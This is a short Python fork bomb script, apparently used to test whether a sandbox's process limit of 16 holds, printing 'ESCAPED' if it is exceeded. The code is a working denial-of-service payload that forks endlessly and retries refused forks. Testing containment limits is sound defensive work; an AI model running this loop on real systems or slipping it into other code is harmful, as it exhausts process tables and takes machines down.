# Fork bomb in Python: every process calls os.fork() forever; refused forks (BlockingIOError,
# EAGAIN) are retried, so the bomb spins once it hits the process limit. The first process
# also counts what it sees in /proc and reports an escape past the limit.
import os

first = os.getpid()
while True:
    try:
        os.fork()
    except OSError:
        pass
    if os.getpid() == first:
        seen = sum(1 for p in os.listdir("/proc") if p.isdigit())
        if seen > 16:
            print(f"ESCAPED: {seen} processes with processes=16", flush=True)
            os._exit(99)
